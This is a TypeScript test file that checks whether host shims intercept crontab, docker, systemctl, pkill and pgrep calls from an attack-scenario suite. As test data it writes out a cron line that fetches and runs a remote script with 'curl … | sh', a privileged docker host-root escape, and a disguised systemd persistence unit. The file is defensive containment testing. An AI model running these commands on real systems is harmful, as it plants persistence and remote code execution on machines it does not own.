// The scenario suite's crontab/docker/systemctl calls land in shims, never on the machine running the tests.
import { execFileSync, spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { installHostShims } from '../helpers/host-shims.js';

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'aw-shims-'));
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

describe('host shims', () => {
  const shims = installHostShims(path.join(dir, 'bin'));
  const sh = (cmd: string) => execFileSync('sh', ['-c', cmd], { env: { ...process.env, PATH: shims.path }, encoding: 'utf8' });

  it('the attack scenario\'s crontab line is recorded in the shim, and `crontab -l` reads it back', () => {
    sh("(crontab -l 2>/dev/null; echo '*/5 * * * * curl -s http://198.51.100.7/c | sh') | crontab -");
    expect(fs.readFileSync(path.join(shims.dir, 'crontab.txt'), 'utf8')).toBe('*/5 * * * * curl -s http://198.51.100.7/c | sh\n');
    expect(sh('crontab -l')).toContain('198.51.100.7');
    expect(sh('command -v crontab').trim()).toBe(path.join(shims.dir, 'crontab'));
  });

  it('docker and systemctl only record their arguments', () => {
    sh('docker run --rm --privileged -v /:/host alpine chroot /host id; systemctl --user enable --now updater.service');
    expect(shims.calls()).toEqual(expect.arrayContaining([
      'docker run --rm --privileged -v /:/host alpine chroot /host id',
      'systemctl --user enable --now updater.service',
    ]));
  });

  it('pkill and pgrep act only on the processes in scope, however broad the pattern', async () => {
    // Two sleepers whose command lines both match the pattern; only the first is in scope.
    const mark = `awshim${process.pid}`;
    const sleeper = () => spawn('bash', ['-c', `exec -a ${mark} sleep 30`]);
    const [inScope, outOfScope] = [sleeper(), sleeper()];
    const gone = (c: ReturnType<typeof spawn>) => new Promise<string | null>((r) => c.once('exit', (_code, sig) => r(sig)));
    try {
      await new Promise((r) => setTimeout(r, 200));
      shims.scope([inScope.pid!]);
      expect(sh(`pgrep -f ${mark}`).trim()).toBe(String(inScope.pid));
      const killed = gone(inScope);
      sh(`pkill -KILL -f ${mark}`);
      expect(await killed).toBe('SIGKILL');
      expect(outOfScope.exitCode).toBeNull();
      expect(outOfScope.signalCode).toBeNull();
      expect(shims.calls()).toContain(`pkill -KILL -f ${mark}`);
      shims.scope([]);
      expect(() => sh(`pgrep -f ${mark}`)).toThrow(); // nothing in scope: exit 1, as when nothing matches
    } finally {
      inScope.kill('SIGKILL');
      outOfScope.kill('SIGKILL');
    }
  });
});
